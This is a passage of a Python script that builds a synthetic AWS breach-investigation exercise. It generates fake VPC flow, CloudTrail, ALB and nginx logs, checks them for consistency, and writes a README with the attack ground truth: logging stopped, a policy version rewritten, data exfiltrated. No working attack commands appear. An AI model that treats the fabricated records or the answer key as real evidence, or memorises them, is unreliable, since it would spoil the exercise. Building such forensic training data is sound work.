    for rec in ((web1, ATTACKER_VPS_IP, 40312, 443, up), (NAT_PRIVATE_IP, ATTACKER_VPS_IP, 40312, 443, up),
                (ATTACKER_VPS_IP, NAT_PRIVATE_IP, 443, 40312, down), (ATTACKER_VPS_IP, web1, 443, 40312, down)):
        out.append(("nat", *rec[:4], 6, pk(rec[4], 1400), rec[4], a + 2, b, "ACCEPT"))

    # an interval without traffic on the NAT gateway is reported as NODATA; one overloaded interval as SKIPDATA
    busy = {(rec[8] - rec[8] % 600) for rec in out if rec[0] == "nat"}
    slot = NET_START
    while slot < NET_END:
        if epoch(slot) not in busy:
            out.append(("nat", None, None, None, None, None, None, None, epoch(slot), epoch(slot) + 600, "NODATA"))
        slot += dt.timedelta(minutes=10)
    out.append((alb_eni[node_for(ATTACKER_WEB_IP)], None, None, None, None, None, None, None,
                epoch(utc(2026, 3, 12, 9, 0)), epoch(utc(2026, 3, 12, 9, 10)), "SKIPDATA"))
    return out


def write_flow_logs(tree: Tree, records: list[tuple]) -> None:
    rng = Rand("flow-files")
    files: dict[dt.datetime, list[str]] = {}
    for rec in sorted(records, key=lambda r: (r[8], ENI_ID[r[0]], r[1] or "", r[3] or 0, r[2] or "")):
        k, src, dst, sport, dport, proto, packets, nbytes, start, end, action = rec
        if action in ("NODATA", "SKIPDATA"):
            line = f"2 {ACCOUNT} {ENI_ID[k]} - - - - - - - {start} {end} - {action}"
        else:
            line = f"2 {ACCOUNT} {ENI_ID[k]} {src} {dst} {sport} {dport} {proto} {packets} {nbytes} {start} {end} {action} OK"
        # records are published at the end of their 10-minute aggregation interval
        files.setdefault(dt.datetime.fromtimestamp(-(-end // 600) * 600, UTC), []).append(line)
    for stamp in sorted(files):
        name = f"{ACCOUNT}_vpcflowlogs_{REGION}_{FLOW_LOG_ID}_{stamp:%Y%m%dT%H%MZ}_{rng.hex(8)}.log.gz"
        rel = f"logs/vpcflow/AWSLogs/{ACCOUNT}/vpcflowlogs/{REGION}/{stamp:%Y/%m/%d}/{name}"
        tree.gz(rel, (FLOW_HEADER + "\n" + "".join(line + "\n" for line in files[stamp])).encode())


# ---------------------------------------------------------------------------------------------
# Self-consistency checks (on the files themselves, so --check also checks the committed tree)
# ---------------------------------------------------------------------------------------------
def key_account(key: str) -> str:
    z = int.from_bytes(base64.b32decode(key[4:20])[:6], "big")
    return f"{(z & 0x7FFFFFFFFF80) >> 7:012d}"


def gunzip(data: bytes) -> bytes:
    return gzip.decompress(data)


ALB_TOKEN = re.compile(r'"[^"]*"|\S+')


def alb_fields(line: str) -> list[str]:
    """An ALB access log entry split into its fields, quotes removed."""
    return [f[1:-1] if f.startswith('"') else f for f in ALB_TOKEN.findall(line)]


def check_consistency(files: dict[str, bytes]) -> list[str]:
    """Every problem found, as messages; empty when the example is consistent."""
    try:
        return _check_consistency(files)
    except (KeyError, IndexError, ValueError, StopIteration) as e:
        return [f"cannot check: {type(e).__name__}: {e} (a file is missing or malformed)"]


def _check_consistency(files: dict[str, bytes]) -> list[str]:
    errs: list[str] = []

    def need(cond: bool, msg: str) -> None:
        if not cond:
            errs.append(msg)

    def J(rel: str):
        return json.loads(files[rel])

    for rel, data in files.items():
        if rel.endswith(".json"):
            try:
                json.loads(data)
            except ValueError as e:
                errs.append(f"{rel}: not JSON: {e}")
        elif rel.endswith(".gz"):
            try:
                gunzip(data)
            except OSError as e:
                errs.append(f"{rel}: not gzip: {e}")
    if errs:
        return errs

    e2 = f"{REGION}/ec2"
    vpcs = {v["VpcId"] for v in J(f"{e2}/describe-vpcs.json")["Vpcs"]}
    subnets = {s["SubnetId"]: s for s in J(f"{e2}/describe-subnets.json")["Subnets"]}
    sgs = {g["GroupId"]: g for g in J(f"{e2}/describe-security-groups.json")["SecurityGroups"]}
    enis = {e["NetworkInterfaceId"]: e for e in J(f"{e2}/describe-network-interfaces.json")["NetworkInterfaces"]}
    instances = {i["InstanceId"]: i for r in J(f"{e2}/describe-instances.json")["Reservations"] for i in r["Instances"]}
    volumes = {v["VolumeId"]: v for v in J(f"{e2}/describe-volumes.json")["Volumes"]}
    igws = {g["InternetGatewayId"] for g in J(f"{e2}/describe-internet-gateways.json")["InternetGateways"]}
    nats = {n["NatGatewayId"]: n for n in J(f"{e2}/describe-nat-gateways.json")["NatGateways"]}
    vpces = {v["VpcEndpointId"]: v for v in J(f"{e2}/describe-vpc-endpoints.json")["VpcEndpoints"]}
    pls = {p["PrefixListId"] for p in J(f"{e2}/describe-managed-prefix-lists.json")["PrefixLists"]}
    addresses = J(f"{e2}/describe-addresses.json")["Addresses"]
    buckets = {b["Name"] for b in J("global/s3/list-buckets.json")["Buckets"]}
    kms_keys = {k["KeyArn"] for k in J(f"{REGION}/kms/list-keys.json")["Keys"]}
    iam = J("global/iam/get-account-authorization-details.json")
    iam_users = {u["UserName"]: u for u in iam["UserDetailList"]}
    iam_roles = {r["Arn"]: r for r in iam["RoleDetailList"]}
    iam_policies = {p["Arn"]: p for p in iam["Policies"]}
    iam_groups = {g["GroupName"]: g for g in iam["GroupDetailList"]}

    # network
    for sid, s in subnets.items():
        need(s["VpcId"] in vpcs, f"subnet {sid}: unknown VPC")
    for gid, g in sgs.items():
        need(g["VpcId"] in vpcs, f"security group {gid}: unknown VPC")
        for p in g["IpPermissions"] + g["IpPermissionsEgress"]:
            for pair in p["UserIdGroupPairs"]:
                need(pair["GroupId"] in sgs, f"security group {gid}: rule references unknown group {pair['GroupId']}")
            for pl in p["PrefixListIds"]:
                need(pl["PrefixListId"] in pls, f"security group {gid}: unknown prefix list {pl['PrefixListId']}")
    for eid, e in enis.items():
        need(e["SubnetId"] in subnets, f"ENI {eid}: unknown subnet {e['SubnetId']}")
        need(e["VpcId"] in vpcs, f"ENI {eid}: unknown VPC")
        need(ipaddress.ip_address(e["PrivateIpAddress"]) in ipaddress.ip_network(subnets[e["SubnetId"]]["CidrBlock"]),
             f"ENI {eid}: {e['PrivateIpAddress']} outside its subnet")
        for g in e["Groups"]:
            need(g["GroupId"] in sgs, f"ENI {eid}: unknown security group {g['GroupId']}")
        iid = e.get("Attachment", {}).get("InstanceId")
        if iid:
            need(iid in instances and eid in [n["NetworkInterfaceId"] for n in instances[iid]["NetworkInterfaces"]],
                 f"ENI {eid}: attached to {iid}, which does not list it")
    for iid, i in instances.items():
        need(i["SubnetId"] in subnets, f"instance {iid}: unknown subnet")
        for g in i["SecurityGroups"]:
            need(g["GroupId"] in sgs, f"instance {iid}: unknown security group {g['GroupId']}")
        for n in i["NetworkInterfaces"]:
            e = enis.get(n["NetworkInterfaceId"])
            need(e is not None and e.get("Attachment", {}).get("InstanceId") == iid,
                 f"instance {iid}: interface {n['NetworkInterfaceId']} not in describe-network-interfaces as attached")
            if e:
                need(sorted(g["GroupId"] for g in e["Groups"]) == sorted(g["GroupId"] for g in i["SecurityGroups"]),
                     f"instance {iid}: groups differ from its interface's")
        for b in i["BlockDeviceMappings"]:
            v = volumes.get(b["Ebs"]["VolumeId"])
            need(v is not None and v["Attachments"][0]["InstanceId"] == iid, f"instance {iid}: volume {b['Ebs']['VolumeId']}")
        if "IamInstanceProfile" in i:
            profiles = [p["Arn"] for r in iam_roles.values() for p in r["InstanceProfileList"]]
            need(i["IamInstanceProfile"]["Arn"] in profiles, f"instance {iid}: unknown instance profile")
    for vid, v in volumes.items():
        if v.get("KmsKeyId"):
            need(v["KmsKeyId"] in kms_keys, f"volume {vid}: unknown KMS key")
    associated: dict[str, int] = {}
    for rt in J(f"{e2}/describe-route-tables.json")["RouteTables"]:
        for a in rt["Associations"]:
            if "SubnetId" in a:
                need(a["SubnetId"] in subnets, f"route table {rt['RouteTableId']}: unknown subnet")
        for r in rt["Routes"]:
            gw = r.get("GatewayId")
            need(gw in (None, "local") or gw in igws or gw in vpces, f"route table {rt['RouteTableId']}: unknown gateway {gw}")
            need(r.get("NatGatewayId") in (None, *nats), f"route table {rt['RouteTableId']}: unknown NAT gateway")
            need(r.get("DestinationPrefixListId") in (None, *pls), f"route table {rt['RouteTableId']}: unknown prefix list")
    for acl in J(f"{e2}/describe-network-acls.json")["NetworkAcls"]:
        for a in acl["Associations"]:
            associated[a["SubnetId"]] = associated.get(a["SubnetId"], 0) + 1
    for sid in subnets:
        need(associated.get(sid) == 1, f"subnet {sid}: associated with {associated.get(sid, 0)} network ACLs")
    for nid, n in nats.items():
        need(n["SubnetId"] in subnets, f"NAT {nid}: unknown subnet")
        for a in n["NatGatewayAddresses"]:
            e = enis.get(a["NetworkInterfaceId"])
            need(e is not None and e["PrivateIpAddress"] == a["PrivateIp"], f"NAT {nid}: interface mismatch")
            need(any(x["AllocationId"] == a["AllocationId"] and x["PublicIp"] == a["PublicIp"] for x in addresses),
                 f"NAT {nid}: address {a['PublicIp']} not in describe-addresses")
    for x in addresses:
        e = enis.get(x["NetworkInterfaceId"])
        need(e is not None and e["PrivateIpAddress"] == x["PrivateIpAddress"]
             and e.get("Association", {}).get("PublicIp") == x["PublicIp"], f"address {x['PublicIp']}: interface mismatch")
        if "InstanceId" in x:
            need(x["InstanceId"] in instances, f"address {x['PublicIp']}: unknown instance")
    for vid, v in vpces.items():
        for rt in v["RouteTableIds"]:
            need(any(rt == t["RouteTableId"] for t in J(f"{e2}/describe-route-tables.json")["RouteTables"]),
                 f"endpoint {vid}: unknown route table")
    for fl in J(f"{e2}/describe-flow-logs.json")["FlowLogs"]:
        need(fl["ResourceId"] in vpcs, f"flow log {fl['FlowLogId']}: unknown VPC")
        need(fl["LogDestination"].removeprefix("arn:aws:s3:::").split("/")[0] in buckets, "flow log bucket not in list-buckets")

    # load balancer
    lbs = J(f"{REGION}/elbv2/describe-load-balancers.json")["LoadBalancers"]
    tgs = {t["TargetGroupArn"]: t for t in J(f"{REGION}/elbv2/describe-target-groups.json")["TargetGroups"]}
    listeners = J(f"{REGION}/elbv2/describe-listeners.json")["Listeners"]
    lb_arns = {lb["LoadBalancerArn"] for lb in lbs}
    for lb in lbs:
        for az in lb["AvailabilityZones"]:
            need(az["SubnetId"] in subnets, f"{lb['LoadBalancerName']}: unknown subnet")
        for g in lb["SecurityGroups"]:
            need(g in sgs, f"{lb['LoadBalancerName']}: unknown security group")
        lb_id = lb["LoadBalancerArn"].split(":loadbalancer/")[1]
        lb_enis = [e for e in enis.values() if e["Description"] == f"ELB {lb_id}"]
        need(len(lb_enis) == len(lb["AvailabilityZones"]), f"{lb['LoadBalancerName']}: one interface per zone expected")
    for li in listeners:
        need(li["LoadBalancerArn"] in lb_arns, "listener: unknown load balancer")
        for a in li["DefaultActions"]:
            need(a.get("TargetGroupArn") in (None, *tgs), "listener: unknown target group")
    registered: dict[str, set] = {}
    for arn, tg in tgs.items():
        need(all(x in lb_arns for x in tg["LoadBalancerArns"]), f"target group {arn}: unknown load balancer")
        health = J(f"{REGION}/elbv2/{enc(arn)}/describe-target-health.json")["TargetHealthDescriptions"]
        for h in health:
            need(h["Target"]["Id"] in instances, f"target group {arn}: unknown target {h['Target']['Id']}")
        registered[arn] = {f"{instances[h['Target']['Id']]['PrivateIpAddress']}:{h['Target']['Port']}" for h in health
                           if h["Target"]["Id"] in instances}

    # database, functions, services
    for db in J(f"{REGION}/rds/describe-db-instances.json")["DBInstances"]:
        for g in db["VpcSecurityGroups"]:
            need(g["VpcSecurityGroupId"] in sgs, f"{db['DBInstanceIdentifier']}: unknown security group")
        for s in db["DBSubnetGroup"]["Subnets"]:
            need(s["SubnetIdentifier"] in subnets, f"{db['DBInstanceIdentifier']}: unknown subnet")
        need(db["KmsKeyId"] in kms_keys, f"{db['DBInstanceIdentifier']}: unknown KMS key")
        rds_enis = [e for e in enis.values() if e["Description"] == "RDSNetworkInterface"]
        need(len(rds_enis) == 1 and rds_enis[0]["SubnetId"] in [s["SubnetIdentifier"] for s in db["DBSubnetGroup"]["Subnets"]],
             "RDS interface not in the DB subnet group")
    for f in J(f"{REGION}/lambda/list-functions.json")["Functions"]:
        need(f["Role"] in iam_roles, f"function {f['FunctionName']}: unknown role")
        need(f"{REGION}/lambda/{f['FunctionName']}/get-policy.json" in files, f"function {f['FunctionName']}: no get-policy")
    for trail in J(f"{REGION}/cloudtrail/describe-trails.json")["trailList"]:
        need(trail["S3BucketName"] in buckets, f"trail {trail['Name']}: bucket not in list-buckets")
    for rec in J(f"{REGION}/configservice/describe-configuration-recorders.json")["ConfigurationRecorders"]:
        need(rec["roleARN"] in iam_roles, "config recorder: unknown role")
    for did in J(f"{REGION}/guardduty/list-detectors.json")["DetectorIds"]:
        need(J(f"{REGION}/guardduty/{did}/get-detector.json")["ServiceRole"] in iam_roles, "detector: unknown role")
    for s in J(f"{REGION}/secretsmanager/list-secrets.json")["SecretList"]:
        rp = J(f"{REGION}/secretsmanager/{enc(s['Name'])}/get-resource-policy.json")
        need(rp["ARN"] == s["ARN"], f"secret {s['Name']}: ARN differs between list-secrets and get-resource-policy")
        for st in json.loads(rp["ResourcePolicy"])["Statement"]:
            p = st["Principal"]
            if isinstance(p, dict) and p.get("AWS", "").startswith(f"arn:aws:iam::{ACCOUNT}:role/"):
                need(p["AWS"] in iam_roles, f"secret {s['Name']}: policy names unknown role {p['AWS']}")
    for k in kms_keys:
        kid = k.split("/")[-1]
        for cmd in ("describe-key", "get-key-policy", "get-key-rotation-status"):
            need(f"{REGION}/kms/{kid}/{cmd}.json" in files, f"KMS key {kid}: no {cmd}")
    for b in buckets:
        for cmd in ("get-bucket-acl", "get-public-access-block", "get-bucket-encryption", "get-bucket-versioning",
                    "get-bucket-logging"):
            need(f"global/s3/{b}/{cmd}.json" in files, f"bucket {b}: no {cmd}")
        lg = J(f"global/s3/{b}/get-bucket-logging.json")
        if lg:
            need(lg["LoggingEnabled"]["TargetBucket"] in buckets, f"bucket {b}: logs to an unknown bucket")

    # IAM
    counts: dict[str, int] = {}
    for ent in iam["UserDetailList"] + iam["GroupDetailList"] + iam["RoleDetailList"]:
        for a in ent["AttachedManagedPolicies"]:
            need(a["PolicyArn"] in iam_policies, f"{a['PolicyArn']}: attached but not in Policies")
            counts[a["PolicyArn"]] = counts.get(a["PolicyArn"], 0) + 1
    for arn, p in iam_policies.items():
        need(p["AttachmentCount"] == counts.get(arn, 0), f"{arn}: AttachmentCount {p['AttachmentCount']} != {counts.get(arn, 0)}")
        defaults = [v["VersionId"] for v in p["PolicyVersionList"] if v["IsDefaultVersion"]]
        need(defaults == [p["DefaultVersionId"]], f"{arn}: default version mismatch")
    for u in iam["UserDetailList"]:
        for g in u["GroupList"]:
            need(g in iam_groups, f"user {u['UserName']}: unknown group {g}")
        if "PermissionsBoundary" in u:
            need(u["PermissionsBoundary"]["PermissionsBoundaryArn"] in iam_policies, f"user {u['UserName']}: unknown boundary")
    for r in iam["RoleDetailList"]:
        for p in r["InstanceProfileList"]:
            need([x["Arn"] for x in p["Roles"]] == [r["Arn"]], f"role {r['RoleName']}: instance profile roles mismatch")
    report = files["global/iam/credential-report.csv"].decode().split("\n")
    need(report[0].split(",") == CREDENTIAL_REPORT_COLUMNS, "credential report: header")
    need(report[1].startswith("<root_account>,"), "credential report: root row first")
    need(all(len(row.split(",")) == 22 for row in report), "credential report: every row has 22 columns")
    need(sorted(row.split(",")[0] for row in report[2:]) == sorted(iam_users), "credential report: users differ from IAM")

    # Organizations
    org = "global/organizations"
    targets_known = {J(f"{org}/list-roots.json")["Roots"][0]["Id"]}
    targets_known |= {a["Id"] for a in J(f"{org}/list-accounts.json")["Accounts"]}
    for rt in J(f"{org}/list-roots.json")["Roots"]:
        targets_known |= {o["Id"] for o in J(f"{org}/{rt['Id']}/list-organizational-units-for-parent.json")["OrganizationalUnits"]}
    need(ACCOUNT in targets_known, "this account is not in the organisation")
    for ptype in ("SERVICE_CONTROL_POLICY", "RESOURCE_CONTROL_POLICY"):
        for p in J(f"{org}/list-policies-{ptype}.json")["Policies"]:
            need(J(f"{org}/{p['Id']}/describe-policy.json")["Policy"]["PolicySummary"] == p, f"{p['Id']}: summary differs")
            json.loads(J(f"{org}/{p['Id']}/describe-policy.json")["Policy"]["Content"])
            for t in J(f"{org}/{p['Id']}/list-targets-for-policy.json")["Targets"]:
                need(t["TargetId"] in targets_known, f"{p['Id']}: unknown target {t['TargetId']}")

    # CloudTrail
    status = J(f"{REGION}/cloudtrail/{TRAIL}/get-trail-status.json")
    gap = (status["TimeLoggingStopped"], status["TimeLoggingStarted"])
    ct_files = sorted(r for r in files if r.startswith("logs/cloudtrail/") and "/CloudTrail/" in r)
    need(bool(ct_files), "no CloudTrail files")
    seen_ids: set[str] = set()
    issued: dict[str, str] = {}  # ASIA key -> issue time
    key_owner: dict[str, str] = {}
    records: list[dict] = []
    for rel in ct_files:
        recs = json.loads(gunzip(files[rel]))["Records"]
        times = [r["eventTime"] for r in recs]
        need(times == sorted(times), f"{rel}: records out of order")
        records += recs
    records.sort(key=lambda r: r["eventTime"])
    first = records[0]["eventTime"]
    for r in records:
        need(r["eventID"] not in seen_ids, f"duplicate eventID {r['eventID']}")
        seen_ids.add(r["eventID"])
        need(not (gap[0] < r["eventTime"] < gap[1]), f"{r['eventID']}: recorded while the trail was stopped")
        resp = r.get("responseElements") or {}
        if r["eventName"] == "AssumeRole" and "credentials" in resp:
            issued[resp["credentials"]["accessKeyId"]] = r["eventTime"]
            need(r["requestParameters"]["roleArn"] in iam_roles, f"{r['eventID']}: AssumeRole of unknown role")
        ui = r["userIdentity"]
        key = ui.get("accessKeyId")
        if key:
            need(key_account(key) == ACCOUNT, f"{r['eventID']}: access key {key} does not belong to {ACCOUNT}")
            who = ui.get("arn", ui.get("type"))
            need(key_owner.setdefault(key, who) == who, f"access key {key} used by {who} and {key_owner[key]}")
        if ui.get("type") == "IAMUser":
            u = iam_users.get(ui["userName"])
            need(u is not None and u["UserId"] == ui["principalId"], f"{r['eventID']}: unknown IAM user {ui['userName']}")
            if "arn" in ui and u:
                need(ui["arn"] == u["Arn"], f"{r['eventID']}: user ARN mismatch")
        elif ui.get("type") == "AssumedRole":
            issuer = ui["sessionContext"]["sessionIssuer"]
            role = iam_roles.get(issuer["arn"])
            need(role is not None and role["RoleId"] == issuer["principalId"] == ui["principalId"].split(":")[0]
                 and ui["arn"] == f"arn:aws:sts::{ACCOUNT}:assumed-role/{role['RoleName']}/{ui['principalId'].split(':', 1)[1]}",
                 f"{r['eventID']}: session does not match role {issuer['arn']} in IAM")
            created = ui["sessionContext"]["attributes"]["creationDate"]
            need(key in issued or created < first or gap[0] < created < gap[1],
                 f"{r['eventID']}: {key} used but never issued by a recorded AssumeRole")
        elif ui.get("type") == "Root":
            need(ui["principalId"] == ACCOUNT and ui.get("arn", f"arn:aws:iam::{ACCOUNT}:root") == f"arn:aws:iam::{ACCOUNT}:root",
                 f"{r['eventID']}: root identity")
        for res in r.get("resources", []):
            if res["type"].startswith("AWS::S3::"):
                need(res["ARN"].removeprefix("arn:aws:s3:::").split("/")[0] in buckets, f"{r['eventID']}: unknown bucket")
            if res["type"] == "AWS::IAM::Role":
                need(res["ARN"] in iam_roles, f"{r['eventID']}: unknown role {res['ARN']}")
        if r.get("vpcEndpointId"):
            need(r["vpcEndpointId"] in vpces, f"{r['eventID']}: unknown VPC endpoint")
            need(any(ipaddress.ip_address(r["sourceIPAddress"]) in ipaddress.ip_network(subnets[s]["CidrBlock"])
                     for s in subnets), f"{r['eventID']}: endpoint call from outside the VPC")
    for rel in (r for r in files if "/CloudTrail-Digest/" in r):
        dg = json.loads(gunzip(files[rel]))
        need(rel.endswith(dg["digestS3Object"]), f"{rel}: digestS3Object differs from its path")
        for lf in dg["logFiles"]:
            body = files.get(f"logs/cloudtrail/{lf['s3Object']}")
            need(body is not None and hashlib.sha256(gunzip(body)).hexdigest() == lf["hashValue"],
                 f"{rel}: hash of {lf['s3Object']} does not match")

    # VPC Flow Logs
    eni_ips = {e["PrivateIpAddress"] for e in enis.values()}
    for rel in (r for r in files if r.startswith("logs/vpcflow/")):
        lines = gunzip(files[rel]).decode().splitlines()
        need(lines[0] == FLOW_HEADER, f"{rel}: header")
        need(f"_{J(f'{e2}/describe-flow-logs.json')['FlowLogs'][0]['FlowLogId']}_" in rel, f"{rel}: flow log id")
        for line in lines[1:]:
            f = line.split(" ")
            need(len(f) == 14 and f[0] == "2" and f[1] == ACCOUNT, f"{rel}: malformed line {line!r}")
            need(f[2] in enis, f"{rel}: unknown interface {f[2]}")
            need("169.254.169.254" not in (f[3], f[4]), f"{rel}: instance metadata traffic is never logged")
            for a in (f[3], f[4]):
                if a != "-" and ipaddress.ip_address(a) in ipaddress.ip_network(VPC_CIDR):
                    need(a in eni_ips, f"{rel}: {a} is no interface's address")
            if f[13] == "OK":
                e = enis[f[2]]
                need(e["PrivateIpAddress"] in (f[3], f[4]) or e["InterfaceType"] == "nat_gateway",
                     f"{rel}: record on {f[2]} involves neither of its addresses")

    # ALB and nginx
    lb = lbs[0]
    lb_res = lb["LoadBalancerArn"].split(":loadbalancer/")[1]
    node_private = {e["Association"]["PublicIp"]: e["PrivateIpAddress"] for e in enis.values()
                    if e["Description"] == f"ELB {lb_res}"}
    certs = {c["CertificateArn"] for li in listeners for c in li.get("Certificates", [])}
    nginx: dict[str, dict[tuple, int]] = {}
    nginx_ip = {}
    for iid, i in instances.items():
        name = next(t["Value"] for t in i["Tags"] if t["Key"] == "Name")
        rel = f"logs/nginx/{name}/access.log"
        if rel in files:
            nginx_ip[i["PrivateIpAddress"]] = name
            idx: dict[tuple, int] = {}
            for line in files[rel].decode().splitlines():
                addr = line.split(" ", 1)[0]
                stamp = line.split("[", 1)[1].split("]", 1)[0]
                req = line.split('"', 2)[1]
                idx[(addr, stamp, req)] = idx.get((addr, stamp, req), 0) + 1
            nginx[name] = idx
    forwarded = 0
    for rel in (r for r in files if r.startswith("logs/alb/")):
        node_pub = rel.rsplit("_", 2)[1]
        need(node_pub in node_private, f"{rel}: node address {node_pub} is not one of the load balancer's")
        for line in gunzip(files[rel]).decode().splitlines():
            f = alb_fields(line)
            need(len(f) == 33, f"{rel}: {len(f)} fields")
            need(f[2] == lb_res, f"{rel}: load balancer id")
            if f[4] != "-":
                forwarded += 1
                need(f[16] in registered and f[4] in registered[f[16]], f"{rel}: target {f[4]} not registered in {f[16]}")
                need(f[19] in certs, f"{rel}: certificate not on a listener")
                t = dt.datetime.strptime(f[1], "%Y-%m-%dT%H:%M:%S.%fZ")
                stamp = f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t:%H:%M:%S} +0000"
                method, url, proto = f[12].split(" ")
                path = "/" + url.split("/", 3)[3]
                key = (node_private[node_pub], stamp, f"{method} {path} {proto}")
                idx = nginx.get(nginx_ip.get(f[4].split(":")[0], ""), {})
                need(idx.get(key, 0) > 0, f"{rel}: no nginx line for {f[12]} at {f[1]}")
                if idx.get(key):
                    idx[key] -= 1
    need(forwarded > 0, "no forwarded requests in the ALB logs")
    need(all(v == 0 for idx in nginx.values() for v in idx.values()), "nginx lines without an ALB request")
    return errs


# ---------------------------------------------------------------------------------------------
# README: the story and the ground truth
# ---------------------------------------------------------------------------------------------
def readme(tree: Tree, trail: Trail, reqs: list[dict]) -> str:
    recs = []
    for rel in sorted(r for r in tree.files if "/CloudTrail/" in r):
        recs += json.loads(gunzip(tree.files[rel]))["Records"]
    by = lambda name: [r for r in recs if r["eventName"] == name]
    exfil = [r for r in recs if r["eventName"] == "GetObject" and r["userIdentity"].get("userName") == "svc-backup"]
    exfil_bytes = sum(r["additionalEventData"]["bytesTransferredOut"] for r in exfil)
    attack_reqs = [r for r in reqs if r["client"] == ATTACKER_WEB_IP]
    counts = {k: sum(1 for r in tree.files if r.startswith(f"logs/{k}/")) for k in ("cloudtrail", "vpcflow", "alb", "nginx")}
    flow_lines = sum(len(gunzip(d).splitlines()) - 1 for r, d in tree.files.items() if r.startswith("logs/vpcflow/"))
    alb_lines = sum(len(gunzip(d).splitlines()) for r, d in tree.files.items() if r.startswith("logs/alb/"))
    nginx_lines = {i: tree.files[f"logs/nginx/{i}/access.log"].count(b"\n") for i in ("web-1", "web-2")}
    renewals = [r for r in recs if r["eventName"] == "AssumeRole" and r["userIdentity"].get("invokedBy") == "ec2.amazonaws.com"]
    assert by("StopLogging") and by("StartLogging") and by("CreatePolicyVersion")
    t = lambda s: s.replace("T", " ").replace("Z", "")

    def table(rows: list[tuple], head: tuple) -> str:
        out = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
        out += ["| " + " | ".join(str(c) for c in r) + " |" for r in rows]
        return "\n".join(out)

    network = table([
        ("VPC", f"`{VPC_ID}`", VPC_CIDR),
        *[(f"subnet {SUBNETS[k][0]}", f"`{SUBNET_ID[k]}`", f"{SUBNETS[k][1]}, {SUBNETS[k][2]}, {SUBNETS[k][3]}") for k in SUBNETS],
        ("internet gateway", f"`{IGW_ID}`", ""),
        ("NAT gateway", f"`{NAT_ID}`", f"{SUBNETS['public-a'][0]}, private {NAT_PRIVATE_IP}, EIP {EIP['nat'][0]} (`{EIP['nat'][1]}`)"),
        ("S3 gateway endpoint", f"`{VPCE_S3}`", f"route to `{S3_PL}` in prod-private-rt"),
        ("route table prod-main-rt (main)", f"`{RTB_ID['main']}`", "local only; used implicitly by the db subnets"),
        ("route table prod-public-rt", f"`{RTB_ID['public']}`", "0.0.0.0/0 -> internet gateway; public subnets"),
        ("route table prod-private-rt", f"`{RTB_ID['private']}`", "0.0.0.0/0 -> NAT, S3 -> endpoint; app subnets"),
        ("network ACL (default)", f"`{ACL_ID['default']}`", "allow all; public and app subnets"),
        ("network ACL prod-db-nacl", f"`{ACL_ID['db']}`", "3306 in from the app subnets, but rule 120 (tcp 1024-65535 in from 10.0.0.0/16) admits 3306 from the whole VPC, bastion included; 1024-65535 back; db subnets"),
        ("prefix list office", f"`{OFFICE_PL}`", OFFICE_CIDR),
        ("flow log", f"`{FLOW_LOG_ID}`", f"whole VPC, ALL, to s3://{LOG_BUCKET}"),
        *[(f"security group {SG[k][0]}", f"`{SG_ID[k]}`", SG[k][1]) for k in SG],
    ], ("what", "id", "details"))
    hosts = table([
        *[(k, f"`{INSTANCE_ID[k]}`", f"`{ENI_ID[k]}`", INSTANCES[k]["ip"],
           EIP["bastion"][0] if k == "bastion" else "-", INSTANCES[k]["type"], INSTANCES[k]["http_tokens"],
           f"`{VOLUME_ID[k]}` ({'encrypted' if INSTANCES[k]['encrypted'] else 'unencrypted'})") for k in INSTANCES],
        ("ALB node a", "-", f"`{ENI_ID['alb-a']}`", ALB_NODES[0][1], ALB_NODES[0][2], "-", "-", "-"),
        ("ALB node b", "-", f"`{ENI_ID['alb-b']}`", ALB_NODES[1][1], ALB_NODES[1][2], "-", "-", "-"),
        ("NAT gateway", "-", f"`{ENI_ID['nat']}`", NAT_PRIVATE_IP, EIP["nat"][0], "-", "-", "-"),
        ("prod-db (RDS)", "-", f"`{ENI_ID['rds']}`", RDS_IP, "-", "db.t3.medium", "-", "storage encrypted"),
    ], ("host", "instance", "interface", "private IP", "public IP", "type", "IMDS HttpTokens", "root volume"))
    principals = table([
        *[(f"user {u}", f"`{user_arn(u)}`", f"`{USER_ID[u]}`",
           ", ".join(f"`{ACCESS_KEY[k]}`" for k in ACCESS_KEY if k == u or k.startswith(u + "-")))
          for u in sorted(USERS)],
        *[(f"role {r}", f"`{rarn(r)}`", f"`{ROLE_ID[r]}`", "") for r in sorted(ROLES)],
        ("group Admins", f"`arn:aws:iam::{ACCOUNT}:group/Admins`", f"`{GROUP_ID['Admins']}`", "AdministratorAccess"),
        ("group Developers", f"`arn:aws:iam::{ACCOUNT}:group/Developers`", f"`{GROUP_ID['Developers']}`",
         "ReadOnlyAccess, may assume developer-role (with MFA)"),
        ("instance profile web-server-profile", f"`{INSTANCE_PROFILE_ARN}`", f"`{INSTANCE_PROFILE_ID}`", "web-server-role"),
        *[(f"policy {p}", f"`{policy_arn(p)}`", f"`{CUSTOMER_POLICY_ID[p]}`",
           "v1, v2 (default, written by the attacker)" if p == "developer-policy" else "v1") for p in sorted(CUSTOMER_POLICIES)],
    ], ("principal", "ARN", "unique id", "access keys / notes"))
    resources = table([
        ("organisation", f"`{ORG_ID}`", f"management account {MGMT_ACCOUNT}, root `{ROOT_ID}`, OUs `{OU_WORKLOADS}` "
                                         f"(Workloads, holds {ACCOUNT}) and `{OU_SANDBOX}` (Sandbox, holds {SANDBOX_ACCOUNT})"),
        ("SCP deny-leave-org", f"`{SCP_DENY_LEAVE}`", "denies leaving the organisation and turning off GuardDuty, "
                                                       "Security Hub and Config; attached to the root. Does not cover CloudTrail"),
        ("load balancer web-alb", f"`{ALB_ARN}`", f"DNS `{ALB_DNS}`"),
        ("target group web-tg", f"`{TG_ARN}`", "HTTP 80, instance targets web-1 and web-2, both healthy"),
        ("listener 80", f"`{LISTENER_ARN[80]}`", "redirect to HTTPS"),
        ("listener 443", f"`{LISTENER_ARN[443]}`", f"forward to web-tg, certificate `{CERT_ARN}`"),
        ("RDS prod-db", f"`arn:aws:rds:{REGION}:{ACCOUNT}:db:{RDS_ID}`", f"MySQL 8.0, endpoint `{RDS_ENDPOINT}`"),
        *[(f"bucket {b}", f"`arn:aws:s3:::{b}`", "") for b in sorted(BUCKETS)],
        ("secret", f"`{SECRET_ARN}`", "prod-db application password"),
        *[(f"KMS key {KMS[k][0]}", f"`{kms_arn(k)}`", f"{KMS[k][2].lower()} managed") for k in KMS],
        ("trail", f"`{TRAIL_ARN}`", f"multi-region, to s3://{TRAIL_BUCKET}, S3 data events for {DATA_BUCKET}"),
        ("GuardDuty detector", f"`{DETECTOR_ID}`", ""),
        ("SNS topic", f"`{TOPIC_ARN}`", ""),
        ("SQS queue", f"`{QUEUE_ARN}`", QUEUE_URL),
